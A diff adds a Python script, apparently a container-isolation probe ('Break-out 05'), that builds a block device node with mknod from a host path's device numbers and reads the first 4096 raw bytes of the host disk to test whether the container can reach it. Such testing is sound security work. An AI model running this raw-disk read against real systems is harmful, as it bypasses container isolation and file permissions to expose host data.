@@ -1,0 +1,19 @@
+#!/usr/bin/python3
+"""Break-out 05: read the host's disk, past all files and permissions, from a container."""
+
+import os
+import re
+import sys
+
+sys.path.append(os.path.join(sys.path[0], ".."))
+from attack import end, inside, tell
+
+# Root can make a device file for any device, if it knows the numbers; they are no secret.
+device = os.stat("/var/lib/workshop").st_dev
+major, minor = os.major(device), os.minor(device)
+script = f"mknod /tmp/disk b {major} {minor} && head -c 4096 /tmp/disk | wc -c; rm -f /tmp/disk"
+process = inside("sh", "-c", script)
+worked = re.fullmatch(r"4096\s*", process.stdout) is not None
+tell(f"read the disk {major}:{minor} byte by byte", worked, process)
+
+end()
